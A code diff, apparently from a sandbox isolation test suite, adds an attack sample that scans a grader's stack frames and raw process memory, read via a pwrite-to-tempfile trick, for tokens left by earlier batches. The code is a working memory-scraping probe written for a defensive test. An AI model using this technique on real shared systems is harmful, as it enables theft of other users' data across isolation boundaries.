@@ -427,6 +427,61 @@ ATTACKS = [
 ]
 
 
+# Looks for data of earlier batches (tokens VICTIM-<16 hex digits>) everywhere a grader can:
+# the frames above grade(), and its own memory (the malloc heap, and the mappings around its
+# objects), read through a file so that unmapped pages fail with EFAULT instead of crashing.
+# Its own code holds the prefix and the pattern only apart, so it never finds itself. The
+# first sample of a process scans; the others repeat its answer.
+PREVIOUS_BATCH_PROBE = _src(r"""
+    import ctypes, os, re, sys, time
+    PATTERN = re.compile(b'VICTIM' + b'-[0-9a-f]{16}')
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.sbrk.restype = ctypes.c_void_p
+    CHUNK = 1 << 20
+    found = None
+
+    def scan_frames():
+        hits = set()
+        frame = sys._getframe()
+        while frame is not None:
+            for value in list(frame.f_locals.values()):
+                hits.update(PATTERN.findall(repr(value)[: 1 << 24].encode('utf-8', 'replace')))
+            for value in list(getattr(frame.f_locals.get('self'), '__dict__', {}).values()):
+                hits.update(PATTERN.findall(repr(value)[: 1 << 24].encode('utf-8', 'replace')))
+            frame = frame.f_back
+        return hits
+
+    def scan_memory(fd, start, step, seconds):
+        hits, addr, deadline = set(), start, time.monotonic() + seconds
+        while time.monotonic() < deadline and addr > 0:
+            if libc.pwrite(fd, ctypes.c_void_p(addr), CHUNK, 0) != CHUNK:
+                break  # the end of this run of mapped memory
+            hits.update(PATTERN.findall(os.pread(fd, CHUNK, 0)))
+            addr += step
+        return hits
+
+    def scan():
+        hits = scan_frames()
+        fd = os.open('/tmp', os.O_TMPFILE | os.O_RDWR, 0o600)
+        try:
+            heap_top = libc.sbrk(0)
+            hits |= scan_memory(fd, heap_top - CHUNK, -(CHUNK - 64), 0.5)
+            near = id(PATTERN) & ~(CHUNK - 1)
+            hits |= scan_memory(fd, near, -(CHUNK - 64), 0.2)
+            hits |= scan_memory(fd, near, CHUNK - 64, 0.2)
+        finally:
+            os.close(fd)
+        return sorted(h.decode() for h in hits)
+
+    def grade(s, i):
+        global found
+        if found is None:
+            found = scan()
+        if found:
+            raise RuntimeError('earlier batches seen: ' + ' '.join(found))
+        return 0.0
+""")
+
 # System V and POSIX IPC objects live in the jail's IPC namespace, not in the process: one
 # that a grader could create would outlive it (and every limit) until the jail stops.
 IPC_KEYS = (0x5EC10, 0x5EC11, 0x5EC12)
